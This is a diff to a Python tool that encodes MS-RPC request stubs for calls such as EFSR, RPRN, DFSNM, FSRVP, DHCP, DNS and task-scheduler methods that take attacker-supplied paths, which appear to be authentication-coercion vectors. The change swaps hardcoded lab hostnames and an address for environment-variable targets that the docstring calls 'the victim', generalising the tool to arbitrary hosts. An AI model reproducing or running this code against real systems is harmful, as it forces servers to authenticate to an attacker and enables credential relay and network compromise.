@@ -4,6 +4,7 @@ Layouts are those of MS-EFSR, MS-RPRN, MS-PAR, MS-DFSNM, MS-FSRVP, MS-EVEN, MS-T
 MS-DHCPM, MS-RAIW and MS-DCOM. srvsvc 74 is documented nowhere; its layout is that of public recordings.
 """
 
+import os
 import re
 import struct
 from typing import NamedTuple
@@ -78,13 +79,13 @@ METHODS = {
     "par-0": Method(
         "par", 0, "RpcAsyncOpenPrinter", "upath null u32=0 null u32=131080 u32=0 u32=0 null", 20
     ),
-    "dfsnm-1": Method("dfsnm", 1, "NetrDfsAdd", "path text=srv1 utext=share null u32=1"),
+    "dfsnm-1": Method("dfsnm", 1, "NetrDfsAdd", "path text=SERVER utext=share null u32=1"),
     "dfsnm-12": Method("dfsnm", 12, "NetrDfsAddStdRoot", "path text=share text=x u32=0"),
     "dfsnm-13": Method("dfsnm", 13, "NetrDfsRemoveStdRoot", "path text=share u32=0"),
     "dfsnm-23": Method(
-        "dfsnm", 23, "NetrDfsAddRootTarget", r"utext=\\srv1\dfs upath u32=1 null u8=1 u32=0"
+        "dfsnm", 23, "NetrDfsAddRootTarget", r"utext=\\SERVER\dfs upath u32=1 null u8=1 u32=0"
     ),
-    "dfsnm-24": Method("dfsnm", 24, "NetrDfsRemoveRootTarget", r"utext=\\srv1\dfs upath u32=0"),
+    "dfsnm-24": Method("dfsnm", 24, "NetrDfsRemoveRootTarget", r"utext=\\SERVER\dfs upath u32=0"),
     "fsrvp-8": Method("fsrvp", 8, "IsPathSupported", "path", 8, 0x80042308),
     "fsrvp-9": Method("fsrvp", 9, "IsPathShadowCopied", "path", 8, 0x80042308),
     "even-9": Method("even", 9, "ElfrOpenBELW", "null ustring u32=1 u32=1", 20, 0xC00000BE),
@@ -92,7 +93,7 @@ METHODS = {
         "srvs",
         74,
         "LocalrServerCertificateMappingSet",
-        r"utext=\\srv1 u32=2 u32=2 ref ref ref ref ref ref ref ref ref ref ref"
+        r"utext=\\SERVER u32=2 u32=2 ref ref ref ref ref ref ref ref ref ref ref"
         " text=LabCertificate text=a3011a23 text=CN=LabCA text=d1ebb23a text=Lab"
         " text=20260101 text=20290119 path path text=Member",
         0,
@@ -100,17 +101,17 @@ METHODS = {
     ),
     "tsch-1": Method("tsch", 1, "SchRpcRegisterTask", "utext=\\lab task u32=2 null u32=3 u32=0 null", 8),
     "rrp-20": Method("rrp", 20, "BaseRegSaveKey", "handle ustring null"),
-    "dhcpm-44": Method("dhcpm", 44, "R_DhcpBackupDatabase", "utext=10.10.0.20 path"),
+    "dhcpm-44": Method("dhcpm", 44, "R_DhcpBackupDatabase", "utext=ADDRESS path"),
     "raiw-3": Method("raiw", 3, "R_WinsDoStaticInit", "upath u32=0"),
     "dnsp-0": Method(
-        "dnsp", 0, "R_DnssrvOperation", "utext=srv1 null u32=0 uatext=LogFilePath u32=3 u32=3 upath"
+        "dnsp", 0, "R_DnssrvOperation", "utext=SERVER null u32=0 uatext=LogFilePath u32=3 u32=3 upath"
     ),
     "dcom-oxid": Method("dcom", 0, "RemoteActivation", "activation"),
 }
 
 # Methods that want a handle get it here first: opnum and request
 OPENERS = {
-    "rprn": (1, r"utext=\\srv1 null u32=0 null u32=0"),  # RpcOpenPrinter
+    "rprn": (1, r"utext=\\SERVER null u32=0 null u32=0"),  # RpcOpenPrinter
     "rrp": (2, "null u32=33554432"),  # OpenLocalMachine
 }
 
@@ -165,10 +166,12 @@ class Ndr:
 
 
 def encode(stub, path, handle=b"", big=False, wide=False):
-    """The request's stub: path and upath are [string] and [string, unique], ustring an RPC_UNICODE_STRING"""
+    """The request's stub: path and upath are [string] and [string, unique],
+    ustring is an RPC_UNICODE_STRING; SERVER and ADDRESS stand for the victim"""
     ndr = Ndr(big, wide)
     for token in stub.split():
         kind, _, value = token.partition("=")
+        value = value.replace("SERVER", os.environ["SRV_NAME"]).replace("ADDRESS", os.environ["SRV"])
         if kind == "u32":
             ndr.put(4, int(value))
         elif kind == "u8":
